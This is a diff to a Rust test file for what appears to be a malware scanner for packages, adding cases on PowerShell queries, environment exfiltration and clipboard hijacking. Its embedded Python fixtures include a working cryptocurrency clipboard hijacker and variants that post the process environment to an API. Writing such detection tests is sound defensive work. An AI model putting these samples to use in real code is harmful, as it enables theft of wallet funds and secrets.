@@ -179,6 +179,11 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         "import socket, subprocess\n\
          def connect(port):\n    s = socket.socket()\n    s.connect(('127.0.0.1', port))\n    return s\n\
          def kill(proc):\n    subprocess.Popen(['cmd', '/c', 'taskkill', '/f', '/t', '/pid', str(proc.pid)])\n",
+        // A VPN helper asking PowerShell for one answer (`-Command`) beside
+        // a socket that checks an address is local.
+        "import socket, subprocess\n\
+         def dns():\n    return subprocess.check_output(['powershell', '-NonInteractive', '-Command', 'Get-DnsClientServerAddress'])\n\
+         def islocal(ip):\n    s = socket.socket()\n    s.connect((ip, 0))\n",
         // A model server's manager: probes a port with a socket in one
         // function, pipes a vendor's install script into `sh` in another
         // (the shell reads that script to its end and exits).
@@ -657,6 +662,29 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
     }
 }
 
+/// A repository cloned with a copy of the environment (`env=`, GitPython
+/// running `git clone`) holds the cloned files, not that environment: its
+/// file list sent on is no environment sent. The environment itself sent,
+/// or handed to a data object, is. Written for the test.
+#[test]
+fn a_repository_cloned_with_the_environment_does_not_hold_it() {
+    let exfil = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/sync.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "exfiltration").map(|f| f.severity)
+    };
+    let sync = "import os, git, requests\ndef sync(api, remote, path):\n    env = os.environ.copy()\n    \
+                env['http_proxy'] = remote.proxy\n    \
+                repo = git.Repo.clone_from(remote.url, path, env=env)\n    \
+                files = [b.path for b in repo.tree().traverse()]\n    requests.post(api, json={'objects': files})\n";
+    assert_eq!(exfil(sync), None, "{sync}");
+    for sent in [
+        sync.replace("json={'objects': files}", "json={'objects': files, 'env': env}"),
+        sync.replace("json={'objects': files}", "json=dict(env=env)"),
+    ] {
+        assert!(exfil(&sent).is_some_and(|s| s >= Severity::High), "{sent}");
+    }
+}
+
 /// A method of the caller's own class named like a network call (a
 /// wallet's `self.send(outputs, priv_keys=...)`) is the package's function:
 /// what it does with its parameters is judged inside it. Written for the test.
@@ -1114,6 +1142,29 @@ fn reversing_a_list_is_not_reading_text_backwards() {
         let py2 = format!("print 'x'\n{hidden}");
         assert_eq!(level(&py2, "exec-decoded"), Some(severity), "{py2}");
     }
+}
+
+/// A clipboard hijacker: wallet addresses looked for, the clipboard set.
+/// `bc1` must start a word (an address, `^bc1`, `\\bbc1`), not sit inside
+/// one (a test's request code `"ABC123"` beside a copy-to-clipboard
+/// button). Written for the test.
+#[test]
+fn a_wallet_pattern_and_the_clipboard_set_is_a_hijack_and_abc123_is_not() {
+    let hijack = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/clip.py", bytes: src.as_bytes() }]);
+        report.findings.iter().any(|f| f.rule == "clipboard-hijack" && f.severity >= Severity::High)
+    };
+    let swap = "import re, time, pyperclip\nMINE = 'bc1qexampleexampleexampleexample0000'\n\
+                def watch():\n    while True:\n        t = pyperclip.paste()\n        \
+                if re.match(r'PATTERN', t):\n            pyperclip.copy(MINE)\n        time.sleep(1)\n";
+    for pattern in ["^bc1[a-z0-9]{25,39}$", "\\bbc1[a-z0-9]{25,39}", "(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}"] {
+        let src = swap.replace("PATTERN", pattern).replace("'bc1qexampleexampleexampleexample0000'", "load()");
+        assert!(hijack(&src), "{src}");
+    }
+    let ui = "def test_request_code_html():\n    result = request_code_html('ABC123')\n    \
+              icon = copy_to_clipboard_icon(data='ABC123', title='Copy request code to clipboard')\n    \
+              assert result == f'ABC123<sup>{icon}</sup>'\n";
+    assert!(!hijack(ui), "{ui}");
 }
 
 /// Spyware: the screen, the clipboard or keystrokes captured in a file that
